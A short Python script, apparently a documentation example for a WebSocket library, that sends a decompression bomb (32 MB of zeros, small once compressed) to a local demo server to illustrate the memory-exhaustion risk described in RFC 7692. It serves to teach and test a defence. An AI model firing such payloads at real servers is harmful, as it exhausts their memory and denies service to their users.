# /// script
# requires-python = ">=3.11"
# dependencies = ["websockets==17.4"]
# ///
"""Send a decompression bomb: small on the wire, large in memory.

- Run: `uv run bomb.py`
- or: `pip install websockets==17.4 && python bomb.py`
- Needs: server_inflating.py, running; its address is in URL
  (default http://127.0.0.1:8000)
- Source: compression, RFC 7692 §7
"""

import os
import sys

from websockets.exceptions import ConnectionClosed, WebSocketException
from websockets.sync.client import connect

URL = os.environ.get("URL", "http://127.0.0.1:8000")
MEGABYTES = int(os.environ.get("MEGABYTES", 32))

# --8<-- [start:bomb]
try:
    # connect() offers compression, and uses it if the server agrees.
    with connect(URL.replace("http", "ws", 1)) as websocket:
        compressed = websocket.protocol.extensions != []
        print("compression:", "yes" if compressed else "no")
        websocket.send(bytes(MEGABYTES * 1_000_000))
        print("the server received", websocket.recv())
except ConnectionClosed as closed:
    print("the server closed with", closed.rcvd or "no code")
# --8<-- [end:bomb]
except (OSError, ValueError, WebSocketException) as error:
    # ValueError: the host or the port of the URL is invalid.
    sys.exit(f"cannot reach {URL}: {error!r}")
